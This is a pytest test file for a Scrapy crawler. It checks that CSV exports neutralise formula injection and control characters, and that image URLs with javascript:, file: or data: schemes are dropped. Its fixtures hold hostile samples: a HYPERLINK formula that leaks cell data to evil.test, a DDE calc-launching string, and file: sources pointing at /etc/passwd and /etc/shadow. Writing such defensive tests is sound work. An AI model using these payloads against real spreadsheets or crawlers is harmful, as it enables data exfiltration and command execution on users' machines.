"""Outputs people open: CSV cells that a spreadsheet would run as formulas, control characters in CSV,
and image URLs that are not http(s) (a hostile <base> makes file: ones, which FilesPipeline would read).

The crawls are real `scrapy crawl edrew` subprocesses against a server on 127.0.0.1, with the shipped
model at threshold 0 and no main-region step, so that which nodes are kept does not depend on the model.
"""
from __future__ import annotations

import csv
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures" / "reliability"))
from reliability_support import RecordingServer, model_missing_reason, read_jsonl, run_crawl  # noqa: E402

from edrew_scrapy.escape import FORMULA_STARTS, csv_cell  # noqa: E402
from edrew_scrapy.serializer import serialize  # noqa: E402

FORMULAS = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
PAGE = ("<!DOCTYPE html><html><head><title>=1+1\x1b[2J title</title><base href='file:///etc/'></head><body>"
        "<article>"
        + "".join(f"<p>{f.replace('&', '&amp;')} and a paragraph with words about the river and the town.</p>"
                  for f in FORMULAS)
        + "<p><img src='passwd'> <img src='javascript:alert(1)'> <img src='data:image/png;base64,AAAA'> "
          "<img src=' JaVa&#9;script:alert(2)'> <img src='FILE:///etc/shadow'> "
          "<img src='http://127.0.0.1:9/ok.png'> <img src='https://127.0.0.1:9/ok2.png'> "
          "A paragraph with images in it and words.</p>"
        "</article></body></html>").encode()
WEB_IMAGES = ["http://127.0.0.1:9/ok.png", "https://127.0.0.1:9/ok2.png"]
KEEP_ALL = ["-s", "EDREW_THRESHOLD=0", "-s", "EDREW_REGION_SHARE=0"]

needs_model = pytest.mark.skipif(model_missing_reason() is not None, reason=str(model_missing_reason()))


def test_only_http_image_urls_are_kept():
    page = serialize(PAGE, url="http://127.0.0.1/page")
    assert page.skipped is None
    assert [img for node in page.nodes for img in node.images] == WEB_IMAGES
    # without a <base>, a relative src resolves against the page URL
    plain = serialize(b"<p><img src='a.png'><img src='vbscript:x'> text with an image</p>", url="http://h/p")
    assert [img for node in plain.nodes for img in node.images] == ["http://h/a.png"]
    # a page read from a file (the CLI's saved pages) keeps the files beside it, still no javascript:
    saved = serialize(b"<p><img src='a.png'><img src='javascript:x'> text with an image</p>", url="file:///s/p.html")
    assert [img for node in saved.nodes for img in node.images] == ["file:///s/a.png"]


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=1", "'\\r=1"), ("a=1", "a=1"), ("plain", "plain"), ("bell\x07 esc\x1b[2J", "bell\\x07 esc\\x1b[2J"),
    ("two\nlines\tand a tab", "two\nlines\tand a tab"), ("", ""),
])
def test_csv_cell(text, cell):
    assert csv_cell(text) == cell


def read_csv(path: Path) -> list:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def cells(rows: list) -> list:
    return [value for row in rows for value in row.values()]


@pytest.mark.crawl
@needs_model
def test_csv_feeds_of_page_items_are_safe_to_open_and_json_keeps_the_text(tmp_path):
    with RecordingServer({"/": (200, {"Content-Type": "text/html; charset=utf-8"}, PAGE)}) as site:
        proc, stats = run_crawl(site.url + "/", tmp_path, *KEEP_ALL, "-o", str(tmp_path / "pages.csv"),
                                "-o", str(tmp_path / "pages.jsonl"), timeout=240)
    assert proc.returncode == 0, proc.stderr[-3000:]
    (item,) = read_jsonl(tmp_path / "pages.jsonl")
    (row,) = read_csv(tmp_path / "pages.csv")
    # JSON Lines: the text as the page has it; CSV: no cell a spreadsheet would compute
    assert item["text"].startswith(FORMULAS[0]) and item["title"].startswith("=1+1\x1b")
    assert row["text"] == csv_cell(item["text"]) and row["text"].startswith("'=HYPERLINK")
    assert row["title"] == "'=1+1\\x1b[2J title"
    for value in cells([row]):
        assert not value.startswith(FORMULA_STARTS), value
        assert not [ch for ch in value if ord(ch) < 0x20 and ch not in "\n\t"], repr(value)
    assert item["images"] == WEB_IMAGES and row["images"] == ",".join(WEB_IMAGES)


@pytest.mark.crawl
@needs_model
def test_csv_safe_applies_to_node_items_and_can_be_turned_off(tmp_path):
    (tmp_path / "safe").mkdir()  # each crawl writes its stats.json in its own folder
    with RecordingServer({"/": (200, {"Content-Type": "text/html; charset=utf-8"}, PAGE)}) as site:
        safe, _ = run_crawl(site.url + "/", tmp_path / "safe", *KEEP_ALL, "-s", "EDREW_ITEMS=node",
                            "-o", str(tmp_path / "safe.csv"), timeout=240)
        raw, _ = run_crawl(site.url + "/", tmp_path, *KEEP_ALL, "-s", "EDREW_ITEMS=node", "-s", "EDREW_CSV_SAFE=False",
                           "-o", str(tmp_path / "raw.csv"), timeout=240)
    assert safe.returncode == 0 and raw.returncode == 0, (safe.stderr[-2000:], raw.stderr[-2000:])
    safe_rows, raw_rows = read_csv(tmp_path / "safe.csv"), read_csv(tmp_path / "raw.csv")
    contents = [row["content"] for row in raw_rows]
    assert [c for c in contents if c.startswith(FORMULA_STARTS)] == [
        f"{f} and a paragraph with words about the river and the town." for f in FORMULAS]
    assert [row["content"] for row in safe_rows] == [csv_cell(c) for c in contents]
    assert not [v for v in cells(safe_rows) if v.startswith(FORMULA_STARTS)]
